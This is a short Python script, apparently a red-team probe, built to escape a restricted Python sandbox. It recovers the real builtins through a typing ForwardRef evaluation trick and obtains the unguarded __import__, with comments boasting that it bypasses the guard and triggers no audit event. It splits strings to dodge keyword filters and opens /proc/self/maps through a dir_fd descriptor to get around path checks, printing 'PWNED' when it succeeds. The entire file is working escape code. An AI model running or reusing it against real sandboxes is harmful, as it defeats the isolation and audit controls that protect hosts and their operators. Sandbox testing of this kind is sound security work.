# fs: copy /proc/self/maps into a /tmp file through a dir_fd descriptor, then read the copy with open()
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    root = o.open("/", o.O_RDONLY)
    src = o.open("proc/self/maps", o.O_RDONLY, dir_fd=root)
    dst = o.open("/tmp/rt_maps_copy", o.O_WRONLY | o.O_CREAT | o.O_TRUNC, 0o600)
    n = o.write(dst, o.read(src, 4096))
    o.close(dst)
    print(M, "copied", n, open("/tmp/rt_maps_copy").read()[:60])
except Exception as e:
    print("refused:", type(e).__name__, e)
